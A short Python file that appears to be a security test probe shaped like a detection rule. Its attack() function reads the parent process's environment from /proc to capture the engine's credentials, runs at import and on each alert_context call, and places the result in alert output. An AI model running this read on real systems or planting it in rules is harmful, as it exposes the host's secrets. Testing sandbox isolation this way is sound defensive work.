"""Read the environment of the engine: its credentials."""
import os

from attempt import attempt, is_attack


def attack():
    return open(f'/proc/{os.getppid()}/environ', 'rb').read()


AT_IMPORT = attempt(attack)


def rule(event):
    return is_attack(event)


def alert_context(event):
    return {'import': AT_IMPORT, 'call': attempt(attack)}
